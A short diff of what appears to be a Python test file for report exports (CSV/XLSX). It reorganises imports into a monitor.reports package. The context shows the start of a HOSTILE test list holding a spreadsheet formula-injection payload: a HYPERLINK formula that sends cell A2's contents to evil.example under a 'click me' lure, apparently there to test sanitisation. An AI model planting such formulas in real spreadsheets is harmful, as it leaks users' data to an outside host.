@@ -9,10 +9,10 @@ from pathlib import Path
 
 import openpyxl
 
-from monitor.ontime import Tally
 from monitor.periods import parse_period
-from monitor.report_render import to_csv, to_xlsx
-from monitor.reports import MonthlyReport, UnitFigures
+from monitor.reports.monthly import MonthlyReport, UnitFigures
+from monitor.reports.ontime import Tally
+from monitor.reports.render import to_csv, to_xlsx
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A2,"点我")',
